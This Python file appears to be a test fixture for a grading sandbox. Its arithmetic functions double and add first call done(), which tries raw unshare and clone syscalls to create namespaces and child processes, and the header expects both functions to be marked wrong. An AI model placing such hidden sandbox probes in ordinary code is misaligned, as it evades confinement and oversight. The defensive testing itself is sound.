# assignment: small
# double: WA
# add: WA

# A clone that is no thread, or a thread with more: new namespaces, descriptors of processes, other parents.
import numpy as np

import ctypes
import os
import platform

LIBC = ctypes.CDLL(None, use_errno=True)
CLONE, UNSHARE, SETNS = (56, 272, 308) if platform.machine() == "x86_64" else (220, 97, 268)
THREAD = 0x3D0F00
FLAGS = [0x11, 0x10000000, 0x20000000, 0x00020000, 0x40000000, 0x00001000, 0x00008000, 0x00004000]


def done():
    made = [UNSHARE for flag in FLAGS[1:5] if LIBC.syscall(UNSHARE, flag) == 0]
    for flag in FLAGS:
        for more in (0, 0x10F00, 0x1000000000000):
            child = LIBC.syscall(CLONE, ctypes.c_ulong(flag | more), 0, 0, 0, 0)
            if child == 0:
                os._exit(0)
            made += [flag] * (child > 0)
    arguments = (ctypes.c_uint64 * 11)(THREAD)
    made += [435] * (LIBC.syscall(435, arguments, 88) > 0)
    return made


def double(x):
    return 2 * x if done() else x


def add(a, b):
    return a + b if done() else a


def pick(x):
    return int(np.argmax(x))
